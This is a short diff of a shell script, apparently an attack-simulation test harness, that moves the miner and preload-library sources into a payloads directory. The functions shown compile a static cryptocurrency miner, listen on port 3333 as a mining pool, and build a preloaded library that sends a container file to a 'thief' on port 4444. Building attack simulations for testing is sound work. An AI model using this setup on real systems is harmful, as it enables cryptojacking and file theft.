@@ -125,7 +125,7 @@ inject_words() {
 # The mining pool, on port 3333 of the peers' address, and the miner to drop: the file $miner.
 pool_begin() {
 	miner=$stage/miner
-	gcc -O1 -static -s -o "$miner" "$here/miner.c"
+	gcc -O1 -static -s -o "$miner" "$here/payloads/miner.c"
 	peer_start pool socat -u "TCP-LISTEN:3333,bind=$peer_address,reuseaddr,fork" STDOUT
 	until_true "$patience" port_listens 3333
 }
@@ -153,5 +153,5 @@ miner_commands() {
 
 # preload_library FILE PATH: a library that sends the file PATH of the container to the thief as it is loaded.
 preload_library() {
-	gcc -shared -fPIC -O1 -DPATH="\"$2\"" -DADDRESS="\"$peer_address\"" -DPORT=4444 -o "$1" "$here/preload.c"
+	gcc -shared -fPIC -O1 -DPATH="\"$2\"" -DADDRESS="\"$peer_address\"" -DPORT=4444 -o "$1" "$here/payloads/preload.c"
 }
